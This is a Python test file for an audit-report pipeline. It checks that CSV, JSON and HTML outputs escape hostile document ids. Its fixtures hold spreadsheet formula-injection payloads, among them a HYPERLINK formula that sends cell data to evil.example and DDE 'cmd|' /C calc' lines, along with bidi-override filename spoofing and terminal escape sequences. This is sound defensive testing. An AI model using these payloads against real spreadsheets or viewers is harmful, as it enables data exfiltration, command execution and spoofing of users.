"""What users read of the audit report, with hostile document ids and text (issue 31):
no CSV cell starts a spreadsheet formula (item 10); no bidi or C1 control reaches
report.json, report.html or the CSVs raw, and ids are bidi-isolated on the page (item 11)."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.fs as pafs

from docintel.pipeline.report import review, write_report
from tests.unit.test_report import RISK, audit_dict, make_run

# ids a spreadsheet would run as formulas (OWASP's list, also after leading whitespace)
FORMULA_IDS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
]
PLAIN_IDS = ["plain-id", "a=b", "10-K/2024 +note", "'already quoted"]


def _rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def _assert_no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("\t", "\r")), row
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), row


def test_changes_csv_never_starts_a_formula(tmp_path: Path, headlines: list[str]) -> None:
    root = tmp_path / "run_date=2026-03-01"
    make_run(root, headlines)
    changes = {
        "new": FORMULA_IDS[:3] + PLAIN_IDS[:2],
        "changed": [{"doc_id": FORMULA_IDS[3]}, {"doc_id": PLAIN_IDS[2]}],
        "removed": FORMULA_IDS[4:] + PLAIN_IDS[3:],
        "reprocessed": 0,
        "detail_max": 1000,
    }
    audit = {**audit_dict("2026-03-01"), "changes": changes}
    write_report(pafs.LocalFileSystem(), str(root), audit, [], RISK, 5)
    rows = _rows((root / "changes.csv").read_bytes())
    _assert_no_formula(rows)
    ids = [r["doc_id"] for r in rows]
    assert ids[:3] == ["'" + d for d in FORMULA_IDS[:3]]
    assert ids[3:5] == PLAIN_IDS[:2]  # text that starts no formula is kept as it is
    assert ids[5:] == ["'" + FORMULA_IDS[3], PLAIN_IDS[2], "'" + FORMULA_IDS[4], *ids[8:]]
    assert ids[-1] == PLAIN_IDS[3]
    review_rows = _rows((root / "review.csv").read_bytes())
    assert len(review_rows) == 12
    _assert_no_formula(review_rows)


def test_review_csv_every_string_cell_is_neutralised() -> None:
    ids = FORMULA_IDS + PLAIN_IDS
    ranked = pa.table(
        {
            "rank": list(range(1, len(ids) + 1)),
            "doc_id": ids,
            "status": ["-changed", *(["new"] * (len(ids) - 1))],
            "risk_score": [-0.5] * len(ids),  # numbers stay numbers
            "doc_status": ["ok"] * len(ids),
        }
    )
    sentences: list[dict[str, Any]] = [{"text": "@cmd|' /C calc'!A0"}]
    text = review.review_csv(ranked, [{"doc_id": ids[0], "sentences": sentences}])
    rows = _rows(text)
    _assert_no_formula([{k: v for k, v in r.items() if k != "risk_score"} for r in rows])
    assert [r["doc_id"] for r in rows][-len(PLAIN_IDS) :] == PLAIN_IDS
    assert rows[0]["doc_id"] == "'" + FORMULA_IDS[0]
    assert rows[0]["status"] == "'-changed" and rows[1]["status"] == "new"
    assert rows[0]["top_risk_sentence"] == "'@cmd|' /C calc'!A0"
    assert rows[0]["risk_score"] == "-0.5" and rows[1]["top_risk_sentence"] == ""


# bidi overrides, isolates and marks, C1 controls (U+009B is a one-character CSI), C0
RAW = ("\u202e", "\u202a", "\u2066", "\u2069", "\u200f", "\u061c", "\x9b", "\x85", "\x1b", "\x07")
HOSTILE_IDS = [
    "invoice-\u202egpj.exe",  # shows as invoice-exe.jpg
    "\x9b31mred\x1b[2J",
    "\u2066isolated\u2069-\u200fmark\u061c",
    "\u202aembedded\x85next\x07",
]


def _assert_raw_free(text: str, where: str) -> None:
    for raw in RAW:
        assert raw not in text, (where, raw)


def test_controls_never_reach_json_html_or_csv(tmp_path: Path, headlines: list[str]) -> None:
    root = tmp_path / "run_date=2026-03-01"
    ids = HOSTILE_IDS + [f"d{i:03d}" for i in range(8)]
    texts = [f"{h} \u202eevil\x9b{RISK}\u2066" for h in headlines]  # every sentence
    make_run(root, texts, doc_ids=ids, with_script=False)
    changes = {"new": ids[:2], "changed": [], "removed": ids[2:4], "reprocessed": 0,
               "detail_max": 1000}  # fmt: skip
    audit = {**audit_dict("2026-03-01"), "changes": changes}
    rep = write_report(pafs.LocalFileSystem(), str(root), audit, [], RISK, 12)
    for name in ("report.json", "report.html", "review.csv", "changes.csv"):
        _assert_raw_free((root / name).read_text(encoding="utf-8"), name)
    # report.json holds the exact values, as \\u escapes a parser reads back
    raw_json = (root / "report.json").read_text(encoding="utf-8")
    assert "\\u202e" in raw_json and "\\u009b" in raw_json
    assert json.loads(raw_json) == rep
    assert {d["doc_id"] for d in rep["review"]} == set(ids)
    assert rep["changes"]["removed"] == ids[2:4]
    page = (root / "report.html").read_text(encoding="utf-8")
    # on the page: visible escapes, every id in its own bidi isolate
    shown = re.findall(r'<bdi class="id">([^<]*)</bdi>', page)
    assert "invoice-\\u202egpj.exe" in shown
    assert "\\x9b31mred\\x1b[2J" in shown
    assert "\\u2066isolated\\u2069-\\u200fmark\\u061c" in shown
    assert "evil\\x9b" in page
    review_rows = _rows((root / "review.csv").read_bytes())
    assert {r["doc_id"] for r in review_rows} >= {"invoice-\\u202egpj.exe", "\\x9b31mred\\x1b[2J"}
    changes_rows = _rows((root / "changes.csv").read_bytes())
    assert [r["doc_id"] for r in changes_rows][:2] == [
        "invoice-\\u202egpj.exe",
        "\\x9b31mred\\x1b[2J",
    ]
